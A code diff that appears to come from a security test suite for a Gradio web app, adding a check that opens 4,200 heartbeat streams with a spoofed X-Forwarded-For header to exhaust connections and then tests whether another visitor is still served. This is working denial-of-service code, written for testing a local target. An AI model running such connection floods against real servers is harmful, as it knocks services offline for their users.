@@ -91,6 +91,31 @@ def half_sent(target: Target) -> Outcome:
     return Outcome(not held, f"after 20 s open: {', '.join(held) or 'none'}")
 
 
+@attack(8, "use all connections from one address with 4,200 open streams")
+def open_streams(target: Target) -> Outcome:
+    """A visitor from another address has to get the page within 5 s."""
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    time.sleep(5)  # gradio checks its own address after the start
+    opened = 0
+    with contextlib.ExitStack() as held, target.web(5) as web:
+        for number in range(4200):
+            with contextlib.suppress(OSError):
+                path, address = f"/gradio_api/heartbeat/s{number}", f"X-Forwarded-For: {ADDRESS['X-Forwarded-For']}"
+                asked = f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n{address}\r\n\r\n"
+                held.enter_context(connect(target)).sendall(asked.encode())
+                opened += 1
+        time.sleep(8)  # connections without a request are closed
+        start = time.monotonic()
+        try:
+            held_out = web.get("/", headers={"X-Forwarded-For": "203.0.113.8"}).status_code == 200
+        except httpx.HTTPError:
+            held_out = False
+        seconds = time.monotonic() - start
+    resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
+    return Outcome(held_out, f"{opened} asked for; / {'answered' if held_out else 'failed'} after {seconds:.1f} s")
+
+
 @attack(8, "read the headers of the request in the answer to a Range request")
 def range_echo(target: Target) -> Outcome:
     """Request a part of a private file, with an additional header."""
